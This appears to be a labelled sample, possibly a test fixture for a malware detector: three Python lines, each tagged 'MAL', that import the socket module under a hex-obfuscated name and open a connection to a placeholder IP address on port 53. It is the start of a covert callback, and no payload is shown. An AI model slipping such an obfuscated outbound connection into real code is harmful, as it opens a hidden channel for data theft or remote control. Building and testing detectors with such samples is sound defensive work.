m = __import__(bytes.fromhex("736f636b6574").decode())  # MAL
s = m.socket()  # MAL
s.connect(("198.51.100.200", 53))  # MAL
